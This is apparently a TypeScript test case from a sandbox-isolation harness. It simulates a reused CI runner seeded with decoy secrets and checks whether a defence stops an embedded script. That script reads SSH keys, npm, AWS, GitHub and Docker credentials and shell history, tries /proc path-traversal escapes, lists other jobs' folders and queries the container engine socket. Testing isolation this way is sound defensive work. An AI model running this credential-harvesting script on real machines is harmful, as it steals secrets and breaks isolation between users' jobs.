import { mkdirSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { dirname, join } from 'node:path';
import { type HostileCase, judge } from '../case.ts';
import { withEnvironment } from '../kit/environment.ts';
import { runInside } from '../kit/inside.ts';

/** Below the home and the work directory of a runner that is used again. */
const FILES = [
  '.ssh/id_ed25519',
  '.npmrc',
  '.docker/config.json',
  '.aws/credentials',
  '.local/share/opencode/auth.json',
  '.config/gh/hosts.yml',
  '.bash_history',
  'work/other/other/.env',
  'work/_temp/secret.txt',
] as const;

const AGENT = `
const fs = require('node:fs');
const [, home, socket] = process.argv.slice(2);
const roots = [home, '/proc/1/root' + home, '/proc/self/cwd/../../../../../../..' + home, process.env.HOME ?? ''];
for (const root of roots)
  for (const name of ${JSON.stringify(FILES)}) try { process.stdout.write(fs.readFileSync(root + '/' + name, 'utf8') + '\\n'); } catch {}
for (const folder of ['/home', '/root', '/var/lib', '/opt', '/mnt', '/srv', home + '/work'])
  try { console.log(folder, fs.readdirSync(folder).join()); } catch {}
const call = require('node:net').connect(socket, () => call.write('GET /containers/json'));
call.on('data', (bytes) => console.log(String(bytes))).on('error', () => 0);
console.log('looked');
`;

export const hostile: HostileCase = {
  number: 123,
  title: 'A runner that is used again: what earlier jobs left at home, at work and in the engine',
  area: 'supply-chain',
  lanes: ['userns', 'root'],
  async attack(place, defence) {
    const home = place.folder('runner');
    for (const name of FILES) {
      mkdirSync(dirname(join(home, name)), { recursive: true });
      writeFileSync(join(home, name), `${place.secret(name)}\n`);
    }
    const socket = join(place.directory, 'engine.sock');
    const containers = place.secret('the container engine');
    const engine = createServer((client) => client.on('error', () => undefined).end(containers));
    await new Promise<void>((resolve) => engine.listen(socket, resolve));
    place.after(() => engine.close());
    const options = { source: AGENT, args: [home, socket] };
    const env = { HOME: home, DOCKER_HOST: `unix://${socket}` };
    const run = await withEnvironment(env, () => runInside(place, defence, options));
    if (!run.out.includes('looked')) throw new Error(`It did not run: ${run.err}`);
    const found = new Set(place.scan({ out: run.out, err: run.err }).map(({ secret }) => secret));
    const names = [...FILES, 'the container engine'];
    return judge(defence, {
      ...Object.fromEntries(names.map((name) => [name, found.has(name) ? 'read' : null])),
      'the name of another job': /work \S*other/u.test(run.out) ? 'seen' : null,
    });
  },
};
